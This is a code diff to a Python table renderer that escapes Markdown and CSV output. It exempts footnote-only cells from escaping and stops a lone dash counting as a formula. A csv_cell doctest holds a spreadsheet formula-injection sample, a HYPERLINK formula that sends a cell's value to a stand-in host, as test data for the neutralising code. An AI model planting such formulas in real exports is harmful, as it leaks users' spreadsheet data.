@@ -490,6 +490,10 @@ def wrap(text: str, width: int | None = None, indent: str = "", hyphens: bool = 
     )
 
 
+#: a cell of footnote marks only, as the disclosure writes them in Markdown (``[^1]``, ``[^1][^2]``)
+_FOOTNOTES = re.compile(r"(?:\[\^\d+\][ ,]*)+")
+
+
 def to_markdown(results: Results) -> str:
     """A GitHub-flavoured Markdown table whose cells are text: HTML is escaped (a record's
     ``<script>`` is shown, never run), Markdown's marks are escaped (no link or image is made from a
@@ -503,6 +507,8 @@ def to_markdown(results: Results) -> str:
     """
 
     def esc(v: str) -> str:
+        if _FOOTNOTES.fullmatch(v):  # the disclosure's own marks ([^1][^2]): Markdown footnotes, kept
+            return v
         v = v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
         return " ".join(re.sub(r"([\\`*_\[\]|!])", r"\\\1", v).splitlines())
 
@@ -558,7 +564,7 @@ def csv_cell(text: str) -> str:
     >>> csv_cell('=HYPERLINK("http://x/?"&A1)'), csv_cell("-12.5"), csv_cell("@SUM(A1)"), csv_cell("DGX")
     ('\'=HYPERLINK("http://x/?"&A1)', '-12.5', "'@SUM(A1)", 'DGX')
     """
-    if text.startswith(_FORMULA):
+    if len(text) > 1 and text.startswith(_FORMULA):  # (a lone "-" is a dash, not a formula)
         try:
             Decimal(text)
             return text
